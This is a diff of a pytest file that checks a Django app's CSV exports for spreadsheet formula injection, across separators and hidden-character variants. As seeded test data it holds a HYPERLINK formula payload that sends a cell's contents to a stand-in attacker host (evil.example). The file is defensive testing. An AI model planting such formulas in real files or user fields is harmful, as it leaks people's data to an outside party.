@@ -1,13 +1,16 @@
-"""Spreadsheet formulas in names and reasons: no file has a cell that a spreadsheet would run."""
+"""Spreadsheet formulas in names and reasons: no file has a cell that a spreadsheet would run, whichever separator the
+spreadsheet expects."""
 
 from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 import uuid
 import zipfile
+from datetime import UTC, datetime
+from decimal import Decimal
+from itertools import cycle
 from typing import Any
 
 import pytest
@@ -28,9 +31,10 @@ pytestmark = pytest.mark.django_db
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 FORMULA = 'HYPERLINK("https://evil.example/?"&A1;"Anna")'
 FILES = sorted(name for name in ROUTES if "csv" in name)
-CASES = [(name, "", ",") for name in FILES]
-CASES += [(name, "?for=excel", ";") for name in FILES if not name.startswith("api-")]
-NUMBER = re.compile(r"-?\d+")
+CASES = [(name, query) for name in FILES for query in ("", "?for=excel") if not (query and name.startswith("api-"))]
+NUMBER = re.compile(r"-?\d+([.,]\d+)?")
+STYLES = ("{}", "A;{}", 'A\t "{}', "A, {}")
+"""How a name begins a cell: at its start, or behind a character that another separator makes the end of a cell."""
 SHORT = 40
 
 
@@ -39,8 +43,8 @@ def house() -> House:
     """A club in which every text of a person is a formula."""
     found = cast().home
     table = create_table(club=found.club, season=found.season, author=found.owner, seats=7)
-    for player, start in zip(Player.objects.filter(club=found.club).order_by("pk"), STARTS, strict=False):
-        player.nickname = player.pseudonym = (start + FORMULA)[:SHORT]
+    for player, start, style in zip(Player.objects.filter(club=found.club).order_by("pk"), STARTS, cycle(STYLES)):
+        player.nickname = player.pseudonym = style.format(start + FORMULA)[:SHORT]
         player.publicity = "pseudonym"
         player.save()
     found.owner.first_name = "=" + FORMULA[:20]
@@ -68,18 +72,18 @@ def text_of(answer: Any) -> str:
     return str(body.decode("utf-8-sig"))
 
 
-def dangerous(text: str, delimiter: str) -> list[str]:
-    """Return the cells that a spreadsheet takes for a formula."""
-    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
-    return [cell for row in rows for cell in row if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]
+def dangerous(text: str) -> list[str]:
+    """Return the cells that a spreadsheet takes for a formula, whatever it takes for a separator and drops."""
+    cells = [cell.lstrip(' "') for cell in re.split(r"[,;|\t\r\n]", text)]
+    return [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell.rstrip('"'))]
 
 
-@pytest.mark.parametrize(("name", "query", "delimiter"), CASES)
-def test_no_file_has_a_formula(house: House, name: str, query: str, delimiter: str) -> None:
+@pytest.mark.parametrize(("name", "query"), CASES)
+def test_no_file_has_a_formula(house: House, name: str, query: str) -> None:
     client = Client()
     client.force_login(house.owner)
     text = text_of(client.get(address(name, house) + query))
-    assert dangerous(text, delimiter) == []
+    assert dangerous(text) == []
     if "ledger" not in name and "log" not in name:
         assert "HYPERLINK" in text
 
@@ -95,23 +99,44 @@ def test_the_personal_data_export_has_no_formula(house: House) -> None:
         sheets = {name: files.read(name).decode("utf-8-sig") for name in files.namelist() if name.endswith(".csv")}
     assert sheets
     for name, text in sheets.items():
-        delimiter = ";" if text.partition("\n")[0].count(";") else ","
-        assert dangerous(text, delimiter) == [], name
+        assert dangerous(text) == [], name
 
 
-def test_without_the_mark_files_have_formulas(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The same files without the mark before a formula."""
-    monkeypatch.setattr(csv_download, "FORMULA_STARTS", ("never",))
+@pytest.mark.parametrize(
+    ("guard", "nothing"), [("FORMULA_STARTS", ("never",)), ("HIDDEN_START", re.compile("(n)(ev)(er)"))]
+)
+def test_without_a_guard_files_have_formulas(
+    house: House, monkeypatch: pytest.MonkeyPatch, guard: str, nothing: Any
+) -> None:
+    monkeypatch.setattr(csv_download, guard, nothing)
     client = Client()
     client.force_login(house.owner)
-    assert dangerous(text_of(client.get(address("standings-csv", house))), ",")
+    assert dangerous(text_of(client.get(address("standings-csv", house))))
 
 
 @pytest.mark.parametrize("start", STARTS)
 def test_each_start_of_a_formula_gets_a_mark(start: str) -> None:
-    assert csv_download.cell(start + "1+1") == "'" + start + "1+1"
+    assert csv_download.guarded(start + "1+1") == "'" + start + "1+1"
 
 
-def test_numbers_stay_numbers() -> None:
-    assert [csv_download.cell(value) for value in (-120, 0, 7)] == ["-120", "0", "7"]
-    assert json.loads(csv_download.cell(-120)) == -120
+SIGNS = [start for start in STARTS if not start.isspace()]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|", "\n", "\r", "\u2028"])
+@pytest.mark.parametrize("between", ["", " ", '"', '" "', "\xa0", "\u200b", "\ufeff"])
+def test_a_start_behind_another_separator_gets_a_mark(separator: str, between: str) -> None:
+    for sign in SIGNS:
+        text = f"Anna{separator}{between}{sign}1+1"
+        assert csv_download.guarded(text) == f"Anna{separator}{between}'{sign}1+1"
+
+
+@pytest.mark.parametrize("text", ["Anna", "B. - C.", "a@b", "1-2", "Anna, Beni; Carlo", "x=1", "'=1"])
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    assert csv_download.guarded(text) == text
+
+
+def test_every_text_is_in_quotes() -> None:
+    day = datetime(2026, 11, 20, 20, 4, 10, tzinfo=UTC)
+    values = ['An"na', "", None, True, -120, Decimal("-3.20"), day.date(), day]
+    assert csv_download.line(values) == '"An""na",,,1,-120,-3.20,2026-11-20,2026-11-20T21:04:10+01:00\r\n'
+    assert next(csv.reader([csv_download.line(values, ";")], delimiter=";"))[0] == 'An"na'
